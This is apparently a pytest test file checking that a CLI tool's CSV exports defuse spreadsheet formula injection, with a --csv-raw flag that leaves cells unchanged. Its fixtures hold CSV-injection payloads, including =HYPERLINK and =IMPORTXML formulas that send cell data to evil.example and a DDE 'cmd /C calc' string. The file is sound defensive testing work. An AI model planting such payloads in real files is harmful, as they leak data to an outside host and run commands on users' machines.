"""CSV for people never carries a live spreadsheet formula; --csv-raw keeps every cell byte for byte.

A title such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` becomes a
formula when the CSV is opened in Excel or LibreOffice (OWASP "CSV injection").
By default every CSV sinorus writes (``export -f csv`` and each ``--csv`` /
``--format csv`` listing) puts ``'`` before a cell that starts with = + - @
(or their full-width forms), TAB or CR, also after leading spaces; numbers stay
numbers. Expected cells are derived from the same data read as JSON.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from conftest import write_kb

# Payloads from the CSV-injection literature, as an event title would carry them.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "=1+1 and then a normal sentence",
    " =1+1",  # leading space: LibreOffice's "trim spaces" import turns it into a formula
    "  @SUM(1,1)",
    "\uff1d1+1",  # full-width equals sign
    "-",
]
# Quote text may run over lines, so it can also start with a TAB or a line break (titles are one line).
HOSTILE_QUOTES = ["\t=1+1", "\n=1+1", "\t@SUM(1,1)", "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")"]
# Titles that must come out unchanged: ordinary text, and text that is only a number.
BENIGN = ["Xi and Putin meet in Moscow", "Hội nghị thượng đỉnh SCO tại Samarkand", "1-2 March talks", "A = B, said the minister", "-1.5", "+3", "2e6"]
TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")

EXTRA = '''facts:
- id: trade-change-number
  metric: Change in trade, as a number
  value: -1.5
  unit: percent
  source: art
  excerpt: Hai bên đã gặp nhau.
- id: trade-change-text
  metric: Change in trade, as quoted text
  value: "-2.5"
  unit: percent
  source: art
  excerpt: Hai bên đã gặp nhau.
- id: formula-value
  metric: "@SUM(A1:A9)"
  value: "=1+1"
  source: art
  excerpt: Hai bên đã gặp nhau.
quotes:
''' + "".join(
    f"- id: quote-{i}\n  speaker: bob\n  date: \"2021-01-{i + 1:02d}\"\n  text: {json.dumps(text)}\n  source: art\n"
    for i, text in enumerate(HOSTILE_QUOTES + ["Chúng tôi là bạn"])
)


@pytest.fixture(scope="module")
def hostile_kb(tmp_path_factory):
    titles = HOSTILE + BENIGN
    events = [{"id": f"event-{i:02d}", "date": f"2020-{1 + i // 28:02d}-{1 + i % 28:02d}", "title": t} for i, t in enumerate(titles)]
    people = [{"id": "ann", "name": "=cmd|' /C calc'!A0"}, {"id": "bob", "name": "Bob Sample"}]
    return write_kb(tmp_path_factory.mktemp("csv"), events, people=people, extra=EXTRA)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a trigger first, or after leading white space; not a plain number."""
    if PLAIN_NUMBER.fullmatch(cell.strip()):
        return False
    return bool(cell) and (cell[0] in TRIGGERS or (cell.lstrip()[:1] in TRIGGERS and cell.lstrip() != cell))


def titles_by_id(cli, data) -> dict[str, str]:
    return {e["id"]: e["title"] for e in cli("--data", data, "timeline", "--json").json()}


LISTINGS = {
    "timeline --csv": ("timeline", "--csv"),
    "timeline --format csv": ("timeline", "--format", "csv"),
    "timeline -f csv --group year": ("timeline", "-f", "csv", "--group", "year"),
    "people --csv": ("people", "--csv"),
    "quote --csv": ("quote", "--csv"),
    "facts --csv": ("facts", "--csv"),
    "search --csv": ("search", "SUM", "--csv"),
    "export -f csv": ("export", "-f", "csv"),
    "export -f csv --bom": ("export", "-f", "csv", "--bom"),
}


@pytest.mark.parametrize("args", LISTINGS.values(), ids=LISTINGS.keys())
def test_no_cell_runs_as_a_formula_by_default(cli, hostile_kb, args):
    r = cli("--data", hostile_kb, *args)
    assert r.code == 0, r.stderr
    table = rows(r.stdout)
    assert len(table) > 1
    live = [cell for row in table for cell in row if runs_as_formula(cell)]
    assert live == []
    raw = cli("--data", hostile_kb, *args, "--csv-raw")
    assert raw.code == 0, raw.stderr
    assert any(runs_as_formula(cell) for row in rows(raw.stdout) for cell in row), "--csv-raw keeps the cells as they are"


@pytest.mark.parametrize("args", [LISTINGS["timeline --csv"], LISTINGS["export -f csv"]], ids=["timeline", "export"])
def test_hostile_titles_get_a_quote_and_raw_keeps_them(cli, hostile_kb, args):
    titles = titles_by_id(cli, hostile_kb)
    safe = {row[0]: row[4] for row in rows(cli("--data", hostile_kb, *args).stdout)[1:]}
    raw = {row[0]: row[4] for row in rows(cli("--data", hostile_kb, *args, "--csv-raw").stdout)[1:]}
    assert raw == titles, "--csv-raw is byte for byte"
    for rid, title in titles.items():
        assert safe[rid] == ("'" + title if title in HOSTILE else title), (rid, title)
    assert {t for t in titles.values()} == set(HOSTILE + BENIGN)


def test_hostile_quotes_get_a_quote_mark_and_raw_keeps_them(cli, hostile_kb):
    texts = {q["id"]: q["text"] for q in cli("--data", hostile_kb, "quote", "--json").json()}
    assert set(HOSTILE_QUOTES) <= set(texts.values())
    safe = {row[0]: row[3] for row in rows(cli("--data", hostile_kb, "quote", "--csv").stdout)[1:]}
    raw = {row[0]: row[3] for row in rows(cli("--data", hostile_kb, "quote", "--csv", "--csv-raw").stdout)[1:]}
    assert raw == texts
    assert safe == {rid: ("'" + t if t in HOSTILE_QUOTES else t) for rid, t in texts.items()}


def test_export_file_and_stdout_agree(cli, hostile_kb, tmp_path):
    """-o FILE.csv holds what stdout gets, neutralised too; --bom still comes first."""
    target = tmp_path / "for-excel.csv"
    assert cli("--data", hostile_kb, "export", "--bom", "-o", target).code == 0
    assert target.read_bytes() == cli("--data", hostile_kb, "export", "-f", "csv", "--bom").stdout.encode("utf-8")
    assert target.read_bytes().startswith(b"\xef\xbb\xbfid,date,")
    assert not any(runs_as_formula(c) for row in rows(target.read_text(encoding="utf-8")) for c in row)


def test_numbers_stay_numbers(cli, hostile_kb):
    facts = {f["id"]: f for f in cli("--data", hostile_kb, "facts", "--json").json()}
    table = rows(cli("--data", hostile_kb, "facts", "--csv").stdout)
    value = table[0].index("value")
    cells = {row[0]: row for row in table[1:]}
    negative = facts["trade-change-number"]["value"]
    assert isinstance(negative, float) and negative < 0
    assert float(cells["trade-change-number"][value]) == negative, "a numeric value is written as the number"
    assert cells["trade-change-text"][value] == facts["trade-change-text"]["value"], "text that is a number stays readable as one"
    assert cells["formula-value"][value] == "'" + facts["formula-value"]["value"]
    assert cells["formula-value"][table[0].index("metric")] == "'" + facts["formula-value"]["metric"]
    scores = [row[0] for row in rows(cli("--data", hostile_kb, "search", "trade", "--csv").stdout)[1:]]
    assert scores and all(PLAIN_NUMBER.fullmatch(s) for s in scores), "search scores stay numbers"


def test_a_person_name_is_neutralised_in_every_column(cli, hostile_kb):
    people = {row[0]: row for row in rows(cli("--data", hostile_kb, "people", "--csv").stdout)[1:]}
    name = next(p["name"] for p in cli("--data", hostile_kb, "people", "--json").json() if p["id"] == "ann")
    assert people["ann"][1] == "'" + name


def test_headers_and_ordinary_rows_are_unchanged(cli, kb):
    """On the bundled data no cell is a formula, so the default and raw outputs are identical."""
    for args in (("export", "-f", "csv"), ("timeline", "--csv"), ("facts", "--csv"), ("people", "--csv")):
        assert cli(*args).stdout == cli(*args, "--csv-raw").stdout


@pytest.mark.parametrize("args", [("timeline", "--json", "--csv-raw"), ("facts", "--csv-raw"), ("export", "-f", "json", "--csv-raw")])
def test_csv_raw_without_csv_is_a_usage_error(cli, args):
    r = cli(*args)
    assert r.code == 2 and "--csv-raw applies to csv only" in r.stderr and r.stdout == ""


def test_a_carriage_return_never_reaches_a_cell(cli, tmp_path):
    """CR is a trigger too, but the loader refuses it in any text; the rule still covers it."""
    from sinorus.output.exporters.records import spreadsheet_safe

    data = write_kb(tmp_path, [{"id": "cr", "date": "2020-01-01", "title": "\r=1+1"}])
    r = cli("--data", data, "timeline", "--csv")
    assert r.code == 1 and "U+000D" in r.stderr
    assert spreadsheet_safe("\r=1+1") == "'\r=1+1" and spreadsheet_safe("\r") == "'\r"
